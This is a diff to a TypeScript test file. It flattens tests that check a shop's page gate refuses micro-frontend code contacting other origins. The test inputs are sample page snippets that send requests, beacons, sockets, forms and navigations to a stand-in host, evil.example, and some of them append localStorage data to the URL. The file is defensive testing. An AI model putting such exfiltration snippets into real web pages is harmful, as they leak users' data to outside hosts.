@@ -91,58 +91,56 @@ it('the gate refuses a release that hides its replacements from the probe', asyn
   expect(found.isolation).toContain('it changes fetch');
 });
 
-describe('other origins', () => {
-  const faultsOf = async (code: string) =>
-    ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;
+const faultsOf = async (code: string) =>
+  ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;
 
-  it('the gate refuses requests to another origin', async () => {
-    const found = await faultsOf(`
-      new Image().src = 'https://evil.example/a';
-      fetch('https://evil.example/b').catch(() => {});
-      node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`);
-    for (const directive of ['img-src', 'connect-src', 'frame-src'])
-      expect(found).toContain(`policy: ${directive} https://evil.example`);
-  });
+it('the gate refuses requests to another origin', async () => {
+  const found = await faultsOf(`
+    new Image().src = 'https://evil.example/a';
+    fetch('https://evil.example/b').catch(() => {});
+    node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`);
+  for (const directive of ['img-src', 'connect-src', 'frame-src'])
+    expect(found).toContain(`policy: ${directive} https://evil.example`);
+});
 
-  it('the gate refuses forms, sockets and beacons to another origin', async () => {
-    const found = await faultsOf(`
-      navigator.sendBeacon('https://evil.example/d', 'x');
-      try { new WebSocket('wss://evil.example/e'); } catch {}
-      const form = node.appendChild(document.createElement('form'));
-      form.action = 'https://evil.example/f';
-      form.submit();`);
-    for (const what of ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'])
-      expect(found).toContain(`policy: ${what}`);
-  });
+it('the gate refuses forms, sockets and beacons to another origin', async () => {
+  const found = await faultsOf(`
+    navigator.sendBeacon('https://evil.example/d', 'x');
+    try { new WebSocket('wss://evil.example/e'); } catch {}
+    const form = node.appendChild(document.createElement('form'));
+    form.action = 'https://evil.example/f';
+    form.submit();`);
+  for (const what of ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'])
+    expect(found).toContain(`policy: ${what}`);
+});
 
-  it('the gate refuses hints to the browser about another origin, which no policy blocks', async () => {
-    const found = await faultsOf(`
-      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
-      node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`);
-    expect(found).toContain('names another origin: <link rel="preconnect">');
-    expect(found).toContain('names another origin: <a ping>');
-  });
+it('the gate refuses hints to the browser about another origin, which no policy blocks', async () => {
+  const found = await faultsOf(`
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
+    node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`);
+  expect(found).toContain('names another origin: <link rel="preconnect">');
+  expect(found).toContain('names another origin: <a ping>');
+});
 
-  it('the gate refuses navigations and windows to another origin, which no policy blocks', async () => {
-    expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
-      'asks another origin (document): https://evil.example',
-    );
-    const asked = jest.fn();
-    const foreign = http.createServer((request, response) => {
-      asked(request.url);
-      response.end();
-    });
-    const address = await listen(foreign);
-    const origin = new RegExp(`asks another origin \\(document\\): ${address}`);
-    expect(await faultsOf(`location.href = '${address}/metrics';`)).toMatch(origin);
-    expect(await faultsOf(`window.open('${address}/metrics');`)).toMatch(origin);
-    foreign.closeAllConnections();
-    foreign.close();
-    expect(asked).not.toHaveBeenCalled();
-    expect(await faultsOf(`window.open('https://evil.example/?' + localStorage.language);`)).toMatch(
-      /(asks|opens a window of) another origin/,
-    );
+it('the gate refuses navigations and windows to another origin, which no policy blocks', async () => {
+  expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
+    'asks another origin (document): https://evil.example',
+  );
+  const asked = jest.fn();
+  const foreign = http.createServer((request, response) => {
+    asked(request.url);
+    response.end();
   });
+  const address = await listen(foreign);
+  const origin = new RegExp(`asks another origin \\(document\\): ${address}`);
+  expect(await faultsOf(`location.href = '${address}/metrics';`)).toMatch(origin);
+  expect(await faultsOf(`window.open('${address}/metrics');`)).toMatch(origin);
+  foreign.closeAllConnections();
+  foreign.close();
+  expect(asked).not.toHaveBeenCalled();
+  expect(await faultsOf(`window.open('https://evil.example/?' + localStorage.language);`)).toMatch(
+    /(asks|opens a window of) another origin/,
+  );
 });
 
 it('the gate lets a page show pictures of an origin that the running shop allows', async () => {
